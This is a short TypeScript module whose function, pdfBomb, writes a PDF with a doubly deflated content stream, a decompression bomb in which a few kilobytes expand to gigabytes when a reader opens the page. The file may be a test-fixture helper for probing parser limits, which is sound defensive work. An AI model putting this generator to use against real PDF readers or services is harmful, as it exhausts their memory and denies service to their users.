import { deflateSync } from 'node:zlib';
import { PdfFile } from './pdf-file.js';

/** A page whose drawing is packed twice, so that a few kilobytes stand for gigabytes. */
export function pdfBomb(megabytes: number): Buffer {
  const file = new PdfFile();
  const parent = file.reserve();
  const drawn = deflateSync(deflateSync(Buffer.alloc(megabytes * 1024 * 1024, ' ')));
  const contents = file.stream('/Filter [/FlateDecode /FlateDecode]', drawn);
  const page = file.add(
    `<< /Type /Page /Parent ${parent} 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents ${contents} 0 R >>`,
  );
  file.put(parent, `<< /Type /Pages /Kids [${page} 0 R] /Count 1 >>`);
  return file.written(`/Root ${file.add(`<< /Type /Catalog /Pages ${parent} 0 R >>`)} 0 R`);
}
